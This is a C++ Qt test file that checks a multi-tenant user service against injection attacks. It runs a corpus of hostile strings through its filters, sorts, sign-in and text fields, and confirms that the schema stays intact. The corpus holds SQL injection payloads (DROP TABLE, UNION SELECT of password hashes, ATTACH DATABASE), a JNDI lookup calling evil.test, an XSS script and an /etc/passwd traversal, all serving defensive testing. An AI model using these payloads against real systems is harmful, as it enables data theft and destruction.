// SQL injection: a corpus of hostile strings through every filter, sort, search and text
// field. No SQL error leaks, no extra rows, and accepted strings are stored verbatim.
#include "testutil.h"

using namespace rd;

namespace {
QStringList corpus()
{
    return {
        QStringLiteral("' OR '1'='1"),
        QStringLiteral("'; DROP TABLE users; --"),
        QStringLiteral("\" OR \"\"=\""),
        QStringLiteral("1; SELECT * FROM users"),
        QStringLiteral("admin'--"),
        QStringLiteral("' UNION SELECT password_hash, NULL FROM users --"),
        QStringLiteral("Robert'); DROP TABLE Students;--"),
        QStringLiteral("%"),
        QStringLiteral("_"),
        QStringLiteral("%%%"),
        QStringLiteral("\\"),
        QStringLiteral("\\%"),
        QStringLiteral("%' OR 1=1 --"),
        QStringLiteral("') OR ('a'='a"),
        QStringLiteral("*/ SELECT /*"),
        QStringLiteral("; PRAGMA writable_schema=1; --"),
        QStringLiteral("ATTACH DATABASE '/tmp/pwn.db' AS pwn; --"),
        QStringLiteral("' AND sqlite_version() --"),
        QStringLiteral("'''''''''"),
        QStringLiteral("`id`"),
        QStringLiteral("[users]"),
        QStringLiteral("NULL"),
        QStringLiteral("-1"),
        QStringLiteral("1e309"),
        QStringLiteral("0x7FFFFFFF"),
        QStringLiteral("<script>alert(1)</script>"),
        QStringLiteral("${jndi:ldap://evil.test/a}"),
        QStringLiteral("../../etc/passwd"),
        QStringLiteral("名前'; --"),
        QString::fromUtf8("\xf0\x9d\x95\x8f' OR 'x'='x"),
        QStringLiteral("a\tb"),
        QStringLiteral("line1\nline2' --"),
        QStringLiteral("nul\u0000byte"),
        QStringLiteral("bell\u0007"),
        QStringLiteral("email:eq:x"),
        QStringLiteral("-email"),
    };
}

bool hasControl(const QString& s)
{
    for (QChar c : s)
        if (c.category() == QChar::Other_Control && c != QLatin1Char('\n') && c != QLatin1Char('\t'))
            return true;
    return false;
}
} // namespace

class TestInjection : public QObject {
    Q_OBJECT

    std::unique_ptr<test::TestWorkspace> tw;
    Session admin;
    QMap<QString, QString> storedIds; // hostile string -> user id

    void noSqlError(const Error& e, const QString& context)
    {
        QVERIFY2(e.code != ErrorCode::StorageError && e.code != ErrorCode::Internal,
            qPrintable(context + QStringLiteral(": ") + e.message + QLatin1Char(' ')
                + QString::fromUtf8(QJsonDocument(e.details).toJson(QJsonDocument::Compact))));
        // No driver text reaches the message (it may echo the caller's own input).
        for (const char* driverText : { "syntax error", "Unable to", "no such column", "no such table", "unrecognized token",
                 "parameter count" })
            QVERIFY2(!e.message.contains(QLatin1String(driverText), Qt::CaseInsensitive), qPrintable(e.message));
        QVERIFY2(!e.details.contains(QStringLiteral("driver")), qPrintable(context));
    }

private slots:
    void initTestCase()
    {
        tw = std::make_unique<test::TestWorkspace>();
        admin = tw->createTenant(QStringLiteral("Acme"), QStringLiteral("acme"));
        // A second tenant whose rows must never appear.
        const Session other = tw->createTenant(QStringLiteral("Other"), QStringLiteral("other"));
        NewUser decoy;
        decoy.email = QStringLiteral("decoy@other.test");
        decoy.givenName = QStringLiteral("' OR '1'='1");
        QVERIFY(tw->ws->users().create(other, decoy).ok());
    }

    void textFieldsStoredVerbatim()
    {
        int i = 0;
        for (const QString& s : corpus()) {
            NewUser nu;
            nu.email = QStringLiteral("h%1@acme.test").arg(i++);
            nu.givenName = s;
            nu.familyName = s;
            auto u = tw->ws->users().create(admin, nu);
            if (hasControl(s)) {
                QVERIFY2(!u.ok(), qPrintable(s));
                QCOMPARE(u.error().code, ErrorCode::ValidationFailed);
                continue;
            }
            QVERIFY2(u.ok(), qPrintable(s + QStringLiteral(": ") + (u.ok() ? QString() : u.error().message)));
            auto back = tw->ws->users().get(admin, u.value().id);
            QVERIFY(back.ok());
            QCOMPARE(back.value().givenName, s);
            QCOMPARE(back.value().familyName, s);
            storedIds.insert(s, u.value().id);

            const QString roleName = QStringLiteral("r%1").arg(i);
            auto role = tw->ws->roles().create(admin, roleName, s);
            QVERIFY(role.ok());
            QCOMPARE(tw->ws->roles().get(admin, roleName).value().description, s);

            TenantPatch p;
            p.name = QStringLiteral("Acme ") + s;
            p.settings = QJsonObject { { QStringLiteral("note"), s } };
            auto t = tw->ws->tenants().update(admin, p);
            QVERIFY(t.ok());
            auto tback = tw->ws->tenants().get(admin);
            QCOMPARE(tback.value().name, QStringLiteral("Acme ") + s);
            QCOMPARE(tback.value().settings.value(QStringLiteral("note")).toString(), s);
        }
        // Hostile strings as emails: refused by validation or stored verbatim, never SQL errors.
        for (const QString& s : corpus()) {
            NewUser nu;
            nu.email = s;
            auto u = tw->ws->users().create(admin, nu);
            QVERIFY(!u.ok());
            noSqlError(u.error(), QStringLiteral("email ") + s);
            const QString mail = QStringLiteral("x") + QString(s).remove(QLatin1Char(' ')).remove(QLatin1Char('@')) +
                QStringLiteral("@acme.test");
            auto u2 = tw->ws->users().create(admin, NewUser { mail, {}, {}, {}, {} });
            if (u2.ok())
                QCOMPARE(tw->ws->users().get(admin, u2.value().id).value().email, mail);
            else
                noSqlError(u2.error(), QStringLiteral("email ") + mail);
        }
    }

    void everyFilterAndOperator()
    {
        const ListSpec& spec = UserService::listSpec();
        const QStringList ops { "eq", "ne", "gt", "lt", "in", "like" };
        ListQuery everything;
        everything.limit = 500;
        auto allRows = tw->ws->users().list(admin, everything);
        QVERIFY(allRows.ok());
        const int total = int(allRows.value().items.size());
        for (const QString& s : corpus()) {
            for (const FieldSpec& f : spec.fields) {
                for (const QString& op : ops) {
                    ListQuery q;
                    q.limit = 500;
                    Filter filter;
                    filter.field = f.name;
                    filter.op = Filter::parseOp(op).value();
                    filter.values = { s };
                    q.filters << filter;
                    auto r = tw->ws->users().list(admin, q);
                    if (!r.ok()) {
                        noSqlError(r.error(), f.name + QLatin1Char(':') + op + QLatin1Char(':') + s);
                        QCOMPARE(r.error().code, ErrorCode::ValidationFailed);
                        continue;
                    }
                    QVERIFY(r.value().items.size() <= total);
                    for (const User& u : r.value().items)
                        QCOMPARE(u.tenantId, admin.tenantId);
                    if (f.name == QLatin1String("given_name") && op == QLatin1String("eq")) {
                        const int expected = storedIds.contains(s) ? 1 : 0;
                        QCOMPARE(int(r.value().items.size()), expected);
                    }
                    if (f.name == QLatin1String("given_name") && op == QLatin1String("like")) {
                        int expected = 0;
                        for (const User& u : allRows.value().items)
                            expected += u.givenName.contains(s, Qt::CaseInsensitive) ? 1 : 0;
                        QCOMPARE(int(r.value().items.size()), expected);
                    }
                }
            }
            // Hostile field names, sort keys and cursors are refused by the whitelist.
            ListQuery badField;
            badField.filters << Filter { s, Filter::Op::Eq, { QStringLiteral("x") } };
            auto bf = tw->ws->users().list(admin, badField);
            QVERIFY(!bf.ok());
            noSqlError(bf.error(), QStringLiteral("field ") + s);

            ListQuery badSort;
            badSort.sort = { SortKey { s, false } };
            auto bs = tw->ws->users().list(admin, badSort);
            QVERIFY(!bs.ok());
            QCOMPARE(bs.error().code, ErrorCode::ValidationFailed);

            ListQuery badCursor;
            badCursor.cursor = s;
            auto bc = tw->ws->users().list(admin, badCursor);
            QVERIFY(!bc.ok());
            QCOMPARE(bc.error().code, ErrorCode::ValidationFailed);

            ListQuery parsed;
            auto pf = Filter::parse(QStringLiteral("given_name:eq:") + s);
            QVERIFY(pf.ok());
            QCOMPARE(pf.value().values.first().toString(), s);

            // Audit and jobs lists, the other filterable lists.
            for (const FieldSpec& f : AuditLog::listSpec().fields) {
                ListQuery q;
                q.filters << Filter { f.name, Filter::Op::Like, { s } };
                auto r = tw->ws->listAudit(admin, q);
                if (!r.ok())
                    noSqlError(r.error(), QStringLiteral("audit ") + f.name);
                else
                    for (const AuditEntry& e : r.value().items)
                        QCOMPARE(e.tenantId, admin.tenantId);
            }
            ListQuery jq;
            jq.filters << Filter { QStringLiteral("kind"), Filter::Op::Eq, { s } };
            auto jr = tw->ws->jobs().list(admin, jq);
            QVERIFY(jr.ok());
            QCOMPARE(jr.value().items.size(), 0);
        }
    }

    void signInAndLookupsWithHostileInput()
    {
        for (const QString& s : corpus()) {
            SignInRequest r;
            r.tenantSlug = s;
            r.email = s;
            r.password = s;
            auto a = tw->ws->auth().signIn(r);
            QVERIFY(!a.ok());
            noSqlError(a.error(), QStringLiteral("signIn ") + s);
            r.tenantSlug = QStringLiteral("acme");
            auto b = tw->ws->auth().signIn(r);
            QVERIFY(!b.ok());
            QCOMPARE(b.error().code, ErrorCode::AuthFailed);
            auto f = tw->ws->users().findByEmail(admin, s);
            QVERIFY(!f.ok());
            noSqlError(f.error(), QStringLiteral("findByEmail ") + s);
            auto g = tw->ws->users().get(admin, s);
            QVERIFY(!g.ok());
            QCOMPARE(g.error().code, ErrorCode::NotFound);
            auto role = tw->ws->roles().get(admin, s);
            QVERIFY(!role.ok());
            noSqlError(role.error(), QStringLiteral("role ") + s);
            auto rc = tw->ws->roles().create(admin, s, s);
            QVERIFY(!rc.ok());
            QCOMPARE(rc.error().code, ErrorCode::ValidationFailed);
            auto grant = tw->ws->roles().grant(admin, QStringLiteral("r1"), { s });
            QVERIFY(!grant.ok());
            QCOMPARE(grant.error().code, ErrorCode::ValidationFailed);
            auto retry = tw->ws->jobs().retry(admin, s);
            QVERIFY(!retry.ok());
            QCOMPARE(retry.error().code, ErrorCode::NotFound);
            auto slug = tw->ws->tenants().findBySlug(s);
            QVERIFY(!slug.ok());
            QCOMPARE(slug.error().code, ErrorCode::NotFound);
        }
    }

    void schemaIntactAfterwards()
    {
        for (const QString& t : QStringList { "users", "tenants", "roles", "audit_log", "changes", "jobs" })
            QVERIFY2(tw->count(QStringLiteral("SELECT COUNT(*) FROM sqlite_master WHERE type = 'table' AND name = ?"), { t }) == 1,
                qPrintable(t));
        QVERIFY(!QFile::exists(QStringLiteral("/tmp/pwn.db")));
        auto v = tw->ws->audit().verify();
        QVERIFY(v.ok() && v.value().ok);
    }

    void cleanupTestCase() { tw.reset(); }
};

QTEST_GUILESS_MAIN(TestInjection)
#include "test_injection.moc"
